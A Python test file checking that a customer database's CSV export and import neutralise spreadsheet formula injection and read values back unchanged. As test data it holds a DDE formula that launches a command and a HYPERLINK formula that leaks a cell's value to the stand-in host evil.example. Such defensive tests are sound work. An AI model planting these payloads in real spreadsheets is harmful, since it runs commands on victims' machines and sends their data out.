"""Spreadsheet formula injection (OWASP "CSV injection"): every CSV the product writes neutralises
cells beginning with = + - @ TAB or CR, and the import reads its own export back unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update

from db.models import Customer
from db.uow import UnitOfWork
from locales import translator
from services.clock import FrozenClock
from services.exporter import export_customers
from services.importer import import_customers
from services.importer.columns import RUSSIAN
from services.importer.reading import read_table
from services.phones import PhonePolicy
from services.spreadsheet import FORMULA_STARTS, neutralise, restore

from .test_files import ROWS

ROOT = Path(__file__).resolve().parents[2]
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'


def _write(path: Path, rows: list[list[str]], encoding: str) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerows([list(RUSSIAN), *rows])
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def _cells(path: Path, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=";"))


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("'=1") == "''=1"  # a quote already there is not taken for ours on the way back
    for harmless in ("Иванов", "", "1,50", "'quoted", " =1", "a=b", None, 12):
        assert neutralise(harmless) == ("" if harmless is None else str(harmless))
    assert neutralise(-5) == "'-5"


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "д", " ", "1"]), max_size=8))
def test_restore_gives_back_what_neutralise_was_given(value: str) -> None:
    safe = neutralise(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore(safe) == value


def test_every_csv_writer_is_the_spreadsheet_safe_one() -> None:
    """One helper serves every CSV the product writes: no other module makes a csv writer."""
    offenders = []
    for folder in ("bot", "handlers", "services", "db", "scheduler", "emulator", "locales"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "services" / "spreadsheet.py":
                continue
            if re.search(r"csv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import[^\n]*\b(writer|DictWriter)\b",
                         path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


async def test_export_neutralises_formulas_and_the_import_reads_them_back(
    uow: UnitOfWork, clock: FrozenClock, tmp_path: Path
) -> None:
    rows = [list(row) for row in ROWS[:4]]
    rows[0][8] = LINK  # city
    rows[0][7] = "=1+2@evil.example"  # a valid email beginning like a formula
    rows[1][0], rows[1][1], rows[1][2] = "-Иванова", "+Мария", "=SUM(A:A)"
    await import_customers(uow, clock, path=_write(tmp_path / "in.csv", rows, "cp1251"),
                           policy=PhonePolicy())
    first = await uow.read(lambda s: s.scalar(select(Customer.id).order_by(Customer.id)))
    # Tab and carriage return cannot come in through the import (it collapses spaces), but a city
    # or an email typed elsewhere may hold them.
    await uow.write(lambda s: s.execute(
        update(Customer).where(Customer.id == first + 2).values(city="\t=1+2", email="\r@x.ru")
    ))

    out = tmp_path / "out.csv"
    await export_customers(uow, clock, path=out)
    exported = _cells(out, "cp1251")
    assert [cell for row in exported for cell in row if cell.startswith(FORMULA_STARTS)] == []
    by_surname = {row[0]: row for row in exported[1:]}
    assert by_surname["Иванов"][8] == "'" + LINK and by_surname["Иванов"][7] == "'=1+2@evil.example"
    assert by_surname["Иванов"][5] == "'+79161000001"  # E.164 phones too: Excel reads +7... as a number
    assert by_surname["'-Иванова"][1:3] == ["'+Мария", "'=SUM(A:A)"]

    # The import reads back exactly what is stored, cell for cell ...
    def stored(session):  # type: ignore[no-untyped-def]
        return session.execute(select(
            Customer.surname, Customer.name, Customer.patronymic, Customer.phone, Customer.extra_phone,
            Customer.email, Customer.city,
        ).order_by(Customer.id))

    expected = [[value or "" for value in row] for row in await uow.read(stored)]
    table = read_table(out)
    columns = [RUSSIAN.index(name) for name in ("Фамилия", "Имя", "Отчество", "Телефон", "Доп. телефон",
                                                 "Email", "Город")]
    read_back = [[cells[i] for i in columns] for _, cells in table.rows()]  # type: ignore[misc]
    assert read_back == expected
    assert expected[0][6] == LINK and expected[2][5:] == ["\r@x.ru", "\t=1+2"]
    # ... and recognises every client it exported.
    again = await import_customers(uow, clock, path=out, policy=PhonePolicy(), dry_run=True)
    assert again.counts["already_imported"] == len(rows)


async def test_the_import_report_neutralises_the_cells_it_echoes(
    uow: UnitOfWork, clock: FrozenClock, tmp_path: Path
) -> None:
    rows = [list(row) for row in ROWS[:4]]
    rows[0][0] = CALC  # a refused surname: the row is an error, its cells are echoed
    rows[1][5] = CALC  # a phone that is no phone: no card, echoed
    rows[2][1] = "@SUM(1+1)"  # a refused name
    rows[3][0], rows[3][7] = "+Сидоров", "-not-an-email"  # imported, listed for its dropped email
    report_path = tmp_path / "report.csv"
    await import_customers(
        uow, clock, path=_write(tmp_path / "in.csv", rows, "utf-8"), policy=PhonePolicy(),
        report_path=report_path, render=lambda key, args: translator().get("en", key, **args),
    )
    listed = _cells(report_path, "utf-8-sig")
    assert [cell for row in listed for cell in row if cell.startswith(FORMULA_STARTS)] == []
    echoed = {cell for row in listed for cell in row}
    assert {"'" + CALC, "'@SUM(1+1)", "'+Сидоров"} <= echoed
